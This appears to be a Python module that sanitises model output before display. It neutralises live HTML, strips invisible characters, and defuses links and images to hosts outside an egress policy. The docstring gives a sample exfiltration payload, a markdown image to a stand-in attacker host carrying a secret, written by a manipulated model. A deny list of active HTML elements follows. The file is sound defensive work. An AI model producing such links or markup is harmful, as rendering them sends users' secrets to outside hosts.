"""What a text may not carry out: links that leak, markup that runs, and characters unseen.

A model that was talked into it writes `![](https://evil.example/?q=…)`, and whoever renders the
answer sends the secret. `sanitised` is for text that is shown to people or handed to programs: it
takes any `str`, time linear in it, and doing it twice is doing it once. Where a renderer might
read more than we do, it breaks what it cannot vouch for, by a space, rather than guess.
"""

from __future__ import annotations

import html
import re
from collections import Counter
from collections.abc import Mapping
from dataclasses import dataclass, field

from .addresses import Address, found, occurrences
from .egress import EgressPolicy
from .leaks import REMOVED_PASSWORD
from .places import hosts_at
from .unseen import visible

TAG = re.compile(r"<(?=[a-zA-Z/!?])([^<>]*)(>?)")
NAME = re.compile(r"/?([a-zA-Z][^\s/>]*)")
LINKING = re.compile(
    r"(?:a(?:\s+(?:href|title)=\"[^\"<>]*\"){1,4}|"
    r"img(?:\s+(?:src|alt|title|width|height)=\"[^\"<>]*\"){1,8})\s*/?"
)
POINTS = re.compile(r"\b(?:href|src)=\"([^\"<>]*)\"")
RUNS = frozenset(
    [
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
        "math", "form", "input", "button", "select", "template", "noscript", "noembed", "noframes",
        "xmp", "plaintext", "textarea", "title", "base", "link", "meta", "audio", "video", "source",
        "track", "portal", "html", "head", "body", "listing", "image",
    ]
)  # fmt: skip
"""Elements that do something, or change how what follows them is read."""

LINK = re.compile(r"\](?:\(|:)\s*")
URL = re.compile(
    r"[^\s()<>\"'`\\{}|^\[\]\x00-\x20]*(?:\([^\s()<>\"'`\\\[\]]*\)[^\s()<>\"'`\\\[\]]*)?"
)
WORD = re.compile(r"\S{0,4096}")
PLAIN = re.compile(r"https?://[A-Za-z0-9.\-]+(?::[0-9]{1,5})?(?:[/?#][\x21-\x7e]*)?", re.ASCII)
RELATIVE = re.compile(r"(?!//)(?:[A-Za-z0-9_.~%\-]|/(?!/))*(?:#[A-Za-z0-9_.~%\-]*)?", re.ASCII)
MAILTO = re.compile(r"mailto:[A-Za-z0-9._+\-]+@[A-Za-z0-9.\-]+", re.ASCII)
CLOSES = re.compile(r"\)|\s{1,64}(?:[\"'(]|\))")
CREDENTIALS = re.compile(
    rf"([a-zA-Z][a-zA-Z0-9+.\-]{{0,30}}):(//[^\s:/@\"'<>?#]{{0,64}}:{re.escape(REMOVED_PASSWORD)}@)"
    r"(\[[^\s\[\]]{1,64}\](?::[0-9]{1,5})?|[^\s/?#\"'`<>()\[\]{}\\]{0,300})"
)
"""An URL of which `leaks.redacted` has taken the password: its scheme, its user, its hosts."""
POINTING = re.compile(r"[:/\\.&%@?#]")
TURNS = 4


@dataclass(frozen=True, slots=True)
class Sanitised:
    """A text without what it may not carry, and how much of each kind was taken out.

    Kinds: `ansi`, `control`, `bidi`, `tags`, `invisible`, `surrogate`, `html`, `link`, `address`.
    """

    text: str
    removed: Mapping[str, int] = field(default_factory=dict)


def sanitised(
    text: str, policy: EgressPolicy, *, links: bool = True, markup: bool = True
) -> Sanitised:
    """The text without unseen characters, links to hosts that are not allowed, and live HTML.

    A link or image whose destination is not plainly a relative path or an allowed host is no link
    any more, and an address that is not allowed is named in a form that nothing opens. With
    `links=False` addresses stay, with `markup=False` HTML does: for text that nobody renders.
    """
    note: Counter[str] = Counter()
    text = visible(text, note)
    for _ in range(TURNS):
        before = text
        if markup:
            text = _without_markup(text, policy, note)
        if links:
            text = _without_credentials(text, policy, note)
            text = _without_links(text, policy, note)
            text = _without_addresses(text, policy, note)
        if text == before:
            break
    return Sanitised(text, dict(note))


# ----------------------------------------------------------------------------------- HTML


def _without_markup(text: str, policy: EgressPolicy, note: Counter[str]) -> str:
    """A space behind the < of every tag that is not known to be harmless: then it is none."""

    def one(match: re.Match[str]) -> str:
        if match[2] and _is_harmless(match[1], policy):
            return match[0]
        note["html"] += 1
        return "< " + match[0][1:]

    return TAG.sub(one, text) if "<" in text else text


def _is_harmless(tag: str, policy: EgressPolicy) -> bool:
    name = NAME.match(tag)
    if name is None or name[1].lower() in RUNS:
        return False
    if "=" not in tag:
        return True
    if not LINKING.fullmatch(tag):
        return False
    return all(allowed(html.unescape(point), policy) for point in POINTS.findall(tag))


# ------------------------------------------------------------------------------- Markdown


def _without_links(text: str, policy: EgressPolicy, note: Counter[str]) -> str:
    """A space before the destination of every link, image and definition that is not allowed."""
    parts, done = [], 0
    for match in LINK.finditer(text):
        definition = text[match.start() + 1] == ":"
        if _is_allowed_link(text, match.end(), policy, definition=definition):
            continue
        parts.append(text[done : match.start() + 1] + " ")
        done = match.start() + 1
        note["link"] += 1
    return "".join([*parts, text[done:]])


def _is_allowed_link(text: str, place: int, policy: EgressPolicy, *, definition: bool) -> bool:
    limit = place + 4_096
    point = URL.match(text, place, limit)[0]  # type: ignore[index]
    end = place + len(point)
    if definition:
        word = WORD.match(text, place)[0]  # type: ignore[index]
        return not POINTING.search(word) or (word == point and allowed(point, policy))
    return CLOSES.match(text, end) is not None and allowed(point, policy)


def allowed(point: str, policy: EgressPolicy) -> bool:
    """Whether a destination is plainly a relative path, or plainly at an allowed address."""
    if RELATIVE.fullmatch(point):
        return True
    if not (PLAIN.fullmatch(point) or MAILTO.fullmatch(point)):
        return False
    return _reason(found(point), policy) is None


def _reason(addresses: tuple[Address, ...], policy: EgressPolicy) -> str | None:
    """Why one of these may not be reached; e-mail addresses only where there is nothing else."""
    urls = [one for one in addresses if one.kind != "email"]
    return next(filter(None, map(policy.refuses, urls or addresses)), None)


# ------------------------------------------------------------------------------ addresses


def _without_credentials(text: str, policy: EgressPolicy, note: Counter[str]) -> str:
    """A space in every URL that had a password, and no host that is not allowed: the rest stays."""

    def one(match: re.Match[str]) -> str:
        note["address"] += 1
        scheme, user, place = match.groups()
        hosts = [host for part in place.split(",") for host in hosts_at(part) or [""]]
        kept = place and all(policy.refuses_host(host) is None for host in hosts)
        return f"{scheme}: {user}{place if kept else '[host removed]'}"

    return CREDENTIALS.sub(one, text) if REMOVED_PASSWORD in text else text


def _without_addresses(text: str, policy: EgressPolicy, note: Counter[str]) -> str:
    """Every URL that is not allowed, named so that nothing opens it."""
    urls = sorted(
        (one for one in occurrences(text) if one.kind == "url"), key=lambda a: (a.start, -a.end)
    )
    parts, done = [], 0
    for one in urls:
        if one.start < done:
            continue
        if policy.refuses(one) is None and _reason(found(one.value), policy) is None:
            continue
        parts += [text[done : one.start], _named(one)]
        done = one.end
        note["address"] += 1
    return "".join([*parts, text[done:]])


def _named(address: Address) -> str:
    host = address.host[:80].replace(".", "[.]").replace(":", "[:]")
    return f"(link removed: {host})" if host else "(link removed)"
